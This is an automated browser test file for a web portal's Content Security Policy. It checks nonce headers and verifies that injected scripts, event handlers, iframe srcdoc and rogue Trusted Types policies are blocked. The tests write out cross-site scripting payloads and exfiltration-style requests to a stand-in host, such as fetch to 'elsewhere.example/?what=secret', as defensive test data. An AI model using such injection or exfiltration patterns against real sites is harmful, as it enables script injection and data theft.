import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, openSession, signedIn, test } from '../../support/portal';
import { onPurpose } from '../../support/violations';

/** The policy of a page with its nonce. Source: architecture.md, Security. */
const policyOf = (html: string) => {
  const nonce = /<script nonce="([^"]+)">/.exec(html)?.[1] ?? 'none';
  return [
    "default-src 'self'",
    `script-src 'self' 'nonce-${nonce}'`,
    `style-src 'self' 'nonce-${nonce}'`,
    "img-src 'self' data: blob:",
    "font-src 'self'",
    "connect-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
    'trusted-types default webpack',
    'report-uri /api/portal/violations',
  ].join('; ');
};

/** The names of the injected scripts that have run. */
const ran = (page: Page) =>
  page.evaluate(() => Object.keys(window).filter((name) => name.startsWith('ranBy')));

/** Opens a page of the portal with injected markup. */
async function openWith(page: Page, markup: string): Promise<void> {
  await page.route(`**${onPurpose}`, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    expect(html).toContain('<body>');
    await route.fulfill({ response, body: html.replace('<body>', `<body>${markup}`) });
  });
  await signedIn(page, 'admin', onPurpose);
  await expect(page.getByText("You are lost. This page doesn't exist.")).toBeVisible();
}

test.describe('the content security policy', () => {
  test('is sent with every page exactly as specified, with a new nonce each time [content-security.1]', async ({
    page,
  }) => {
    await openSession(page, 'admin');
    const nonces = new Set<string>();
    const addresses = [
      '/',
      '/login',
      '/first_admin?token=x',
      '/projects',
      '/projects/1/timeline',
      '/users',
      '/nowhere',
    ];
    for (const address of addresses) {
      const answer = await page.request.get(address);
      const html = await answer.text();
      const policy = answer.headers()['content-security-policy'];
      expect(policy, address).toBe(policyOf(html));
      nonces.add(policy!);
    }
    expect(nonces.size).toBe(addresses.length);
  });

  test.describe('against code that an attacker injects into a page', () => {
    test.beforeEach(({ consoleWatch }) =>
      consoleWatch.allow(/Content Security Policy|requires 'Trusted|404 \(Not Found\)/i),
    );

    test('runs no injected script, wherever it is placed or loaded from; the portal continues to work [content-security.3]', async ({
      page,
      violations,
    }) => {
      await openWith(
        page,
        `<script>window.ranByText = true</script>
         <script nonce="bm90IHRoaXMgb25l">window.ranByGuess = true</script>
         <img src="data:image/png,none" alt="" onerror="window.ranByHandler = true">
         <script src="https://scripts.example/theirs.js"></script>`,
      );
      const found = await violations.take(
        'script-src-elem',
        'script-src-elem',
        'script-src-elem',
        'script-src-attr',
      );
      expect(found.map(({ blocked }) => blocked).sort()).toEqual([
        'https://scripts.example/theirs.js',
        'inline',
        'inline',
        'inline',
      ]);
      expect(await ran(page)).toEqual([]);
      await page.getByRole('main').getByRole('link', { name: 'Go home' }).click();
      await expect(page.getByRole('gridcell').first()).toBeVisible();
    });

    test('refuses to turn text into markup or code, allows no further policy of Trusted Types, and blocks requests to other hosts, each of which the server logs [content-security.2] [content-security.4]', async ({
      page,
      portal,
      violations,
    }) => {
      await openWith(page, '');
      const refused = await page.evaluate(() => {
        const attempts: Record<string, () => void> = {
          markup: () =>
            (document.createElement('div').innerHTML = '<img src=x onerror="ranByMarkup = true">'),
          'script of another site': () =>
            (document.createElement('script').src = 'https://scripts.example/theirs.js'),
          'script text': () => {
            const script = document.createElement('script');
            script.text = 'window.ranByScript = true';
            document.body.append(script);
          },
          handler: () => document.body.setAttribute('onclick', 'window.ranByClick = true'),
          frame: () =>
            (document.createElement('iframe').srcdoc = '<script>parent.ranByFrame = true</script>'),
          policy: () => {
            const { trustedTypes } = window as unknown as {
              trustedTypes: { createPolicy(name: string, rules: object): unknown };
            };
            trustedTypes.createPolicy('theirs', { createHTML: (text: string) => text });
          },
        };
        return Object.entries(attempts).flatMap(([name, attempt]) => {
          try {
            attempt();
            return [];
          } catch (error) {
            return error instanceof TypeError ? [name] : [];
          }
        });
      });
      expect(refused).toEqual([
        'markup',
        'script of another site',
        'script text',
        'handler',
        'frame',
        'policy',
      ]);
      await violations.take('require-trusted-types-for', 'require-trusted-types-for', 'trusted-types');
      expect(await ran(page)).toEqual([]);

      await page.evaluate(async () => {
        await fetch('https://elsewhere.example/?what=secret').catch(() => undefined);
        new Image().src = 'https://elsewhere.example/pixel';
        const form = document.createElement('form');
        form.action = 'https://elsewhere.example/form';
        document.body.append(form);
        form.submit();
      });
      await violations.take('connect-src', 'img-src', 'form-action');
      const logged = () =>
        readFileSync(portal.log, 'utf8')
          .split('\n')
          .filter((line) => line.includes(onPurpose) && line.includes('elsewhere.example'))
          .map((line) => (JSON.parse(line) as { directive: string }).directive)
          .sort();
      await expect.poll(logged, { timeout: 20_000 }).toEqual(['connect-src', 'form-action', 'img-src']);
    });
  });
});
